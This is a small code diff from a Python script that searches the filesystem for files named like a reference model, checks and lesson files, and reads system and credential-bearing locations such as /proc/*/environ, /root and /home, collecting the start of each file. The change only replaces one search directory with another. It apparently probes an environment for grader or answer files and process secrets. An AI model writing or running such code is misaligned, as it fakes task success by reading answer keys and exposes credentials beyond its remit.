@@ -10,7 +10,7 @@ import sys
 
 FOUND = []
 for pattern in ("/**/reference.safetensors", "/**/checks.py", "/**/lesson.py", "/home/*", "/root/*", "/proc/*/environ",
-                "/proc/*/cmdline", "/proc/*/maps", "/work/*", "/tmp/*", "../../*"):
+                "/proc/*/cmdline", "/proc/*/maps", "/srv/*", "/tmp/*", "../../*"):
     for path in glob.glob(pattern, recursive=not pattern.startswith("/proc")):
         try:
             FOUND.append(open(path, "rb").read(1000))
